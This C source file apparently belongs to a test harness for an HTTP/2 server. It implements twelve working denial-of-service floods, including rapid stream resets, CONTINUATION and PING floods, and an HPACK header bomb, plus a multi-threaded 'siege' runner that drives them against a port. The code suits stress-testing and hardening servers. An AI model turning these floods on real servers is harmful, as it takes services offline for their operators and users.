#include "edge_attack.h"

#include "edge_wire.h"

#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct burst {
    unsigned char bytes[96 * 1024];
    size_t size;
};

static void add(struct burst *burst, unsigned type, unsigned flags, uint32_t stream, const void *payload, size_t size)
{
    unsigned char *out = burst->bytes + burst->size;
    h2_frame_head(out, type, flags, stream, size);
    if (size)
        memcpy(out + 9, payload, size);
    burst->size += 9 + size;
}

static bool send_burst(int fd, const struct burst *burst)
{
    return say_bytes(fd, burst->bytes, burst->size);
}

/* `count` times the same frame. */
static bool repeat(int fd, int count, unsigned type, unsigned flags, uint32_t stream, const void *payload, size_t size)
{
    struct burst burst = { .size = 0 };
    for (int i = 0; i < count; i++)
        add(&burst, type, flags, stream, payload, size);
    return send_burst(fd, &burst);
}

static size_t get_block(unsigned char *out)
{
    static const struct h2_field fields[] = {
        { ":method", "GET" }, { ":scheme", "http" }, { ":path", "/one/" }, { ":authority", "a" }, { 0 }
    };
    return h2_block(out, fields);
}

static void add_gets(struct burst *burst, uint32_t *stream, unsigned type, const void *payload)
{
    unsigned char block[512];
    size_t size = get_block(block);
    for (int i = 0; i < 100; i++, *stream += 2) {
        add(burst, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, *stream, block, size);
        add(burst, type, 0, *stream, payload, 4);
    }
}

static bool reset_rapidly(int fd, uint32_t *stream)
{
    struct burst burst = { .size = 0 };
    add_gets(&burst, stream, H2_RST_STREAM, "\0\0\0\x08");
    return send_burst(fd, &burst);
}

static bool make_reset(int fd, uint32_t *stream)
{
    struct burst burst = { .size = 0 };
    add_gets(&burst, stream, H2_WINDOW_UPDATE, "\0\0\0\0");
    return send_burst(fd, &burst);
}

static bool continue_emptily(int fd, uint32_t *stream)
{
    if (*stream == 1)
        h2_send(fd, H2_HEADERS, H2_END_STREAM, 1, "\x82", 1);
    *stream = 3;
    return repeat(fd, 4096, H2_CONTINUATION, 0, 1, NULL, 0);
}

static bool ping(int fd, uint32_t *stream)
{
    (void)stream;
    return repeat(fd, 1000, H2_PING, 0, 0, "12345678", 8);
}

static bool set(int fd, uint32_t *stream)
{
    (void)stream;
    return repeat(fd, 1000, H2_SETTINGS, 0, 0, "\0\x04\0\0\xff\xff", 6);
}

static bool prefer(int fd, uint32_t *stream)
{
    struct burst burst = { .size = 0 };
    (void)stream;
    for (int i = 0; i < 1000; i++)
        add(&burst, H2_PRIORITY, 0, (uint32_t)(i % 8) * 2 + 1, (const unsigned char[]){ 0, 0, 0, 99, (unsigned char)i },
            5);
    return send_burst(fd, &burst);
}

/* Stream 1 is a POST whose body goes on for ever. */
static bool post_on(int fd, uint32_t *stream, unsigned flags, const void *payload, size_t size)
{
    static const struct h2_field post[] = {
        { ":method", "POST" }, { ":scheme", "http" }, { ":path", "/one/" }, { ":authority", "a" }, { 0 }
    };
    if (*stream == 1)
        h2_request(fd, 1, 0, post);
    *stream = 3;
    return repeat(fd, 200, H2_DATA, flags, 1, payload, size);
}

static bool send_nothing(int fd, uint32_t *stream)
{
    return post_on(fd, stream, 0, NULL, 0);
}

static bool pad(int fd, uint32_t *stream)
{
    static const unsigned char padded[256] = { 255 };
    return post_on(fd, stream, H2_PADDED, padded, sizeof padded);
}

static bool send_to_closed(int fd, uint32_t *stream)
{
    if (*stream == 1)
        h2_get(fd, 1, "/nothing");
    *stream = 3;
    return repeat(fd, 1000, H2_DATA, 0, 1, (const char[64]){ "x" }, 64);
}

static bool ask_badly(int fd, uint32_t *stream)
{
    struct burst burst = { .size = 0 };
    for (int i = 0; i < 4096; i++, *stream += 2)
        add(&burst, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, *stream, "\x82", 1);
    return send_burst(fd, &burst);
}

static bool open_by_nothing(int fd, uint32_t *stream)
{
    if (*stream == 1)
        h2_get(fd, 1, "/nothing");
    *stream = 3;
    return repeat(fd, 4096, H2_WINDOW_UPDATE, 0, 1, "\0\0\0\0", 4);
}

/* One entry of the table, named forty thousand times; the answers find no window. */
static bool bomb(int fd, uint32_t *stream)
{
    static const unsigned char entry[] = { 0x40, 1, 'x', 127, 0xe1, 0x13 }; /* 127 + 0x61 + 0x13 * 128 = 2656 */
    unsigned char block[16384], names[10000];
    struct burst burst = { .size = 0 };
    size_t size = get_block(block);
    memset(names, 0xbe, sizeof names); /* entry 62: the first that is not static */
    if (*stream == 1) {
        h2_send(fd, H2_SETTINGS, 0, 0, "\0\x04\0\0\0\0", 6);
        memcpy(block + size, entry, sizeof entry);
        memset(block + size + sizeof entry, 'v', 2656);
        size += sizeof entry + 2656;
    }
    add(&burst, H2_HEADERS, H2_END_STREAM, *stream, block, size);
    for (int i = 0; i < 4; i++)
        add(&burst, H2_CONTINUATION, i == 3 ? H2_END_HEADERS : 0, *stream, names, sizeof names);
    *stream += 2;
    return send_burst(fd, &burst);
}

const struct h2_attack h2_rapid_resets = { "rapid resets", reset_rapidly, false };
const struct h2_attack h2_made_resets = { "made resets", make_reset, false };
const struct h2_attack h2_empty_continuations = { "empty continuations", continue_emptily, false };
const struct h2_attack h2_pings = { "pings", ping, false };
const struct h2_attack h2_settings = { "settings", set, false };
const struct h2_attack h2_priorities = { "priorities", prefer, false };
const struct h2_attack h2_empty_data = { "empty data", send_nothing, false };
const struct h2_attack h2_padding = { "padding", pad, false };
const struct h2_attack h2_data_on_closed = { "data on closed streams", send_to_closed, true };
const struct h2_attack h2_bad_requests = { "bad requests", ask_badly, false };
const struct h2_attack h2_bad_windows = { "bad window updates", open_by_nothing, false };
const struct h2_attack h2_header_bombs = { "header bombs", bomb, false };

/* false: it was cut off. */
static bool listen_on(int fd, const struct h2_attack *attack)
{
    char scratch[65536];
    ssize_t got = 1;
    while (!attack->deaf && (got = recv(fd, scratch, sizeof scratch, MSG_DONTWAIT)) > 0)
        continue;
    return got != 0;
}

static void *besiege(void *self)
{
    struct h2_siege *siege = self;
    while (!siege->stop) {
        int fd = h2_dial(siege->port);
        uint32_t stream = 1;
        struct timeval limit = { .tv_sec = 1 };
        setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
        atomic_fetch_add(&siege->connections, 1);
        while (!siege->stop && listen_on(fd, siege->attack) && siege->attack->burst(fd, &stream))
            atomic_fetch_add(&siege->bursts, 1);
        close(fd);
    }
    return NULL;
}

void h2_siege_begin(struct h2_siege *siege, const struct h2_attack *attack, int port, int count)
{
    *siege = (struct h2_siege){ .attack = attack, .port = port, .count = count };
    for (int i = 0; i < count; i++)
        pthread_create(&siege->threads[i], NULL, besiege, siege);
}

void h2_siege_end(struct h2_siege *siege)
{
    siege->stop = true;
    for (int i = 0; i < siege->count; i++)
        pthread_join(siege->threads[i], NULL);
}
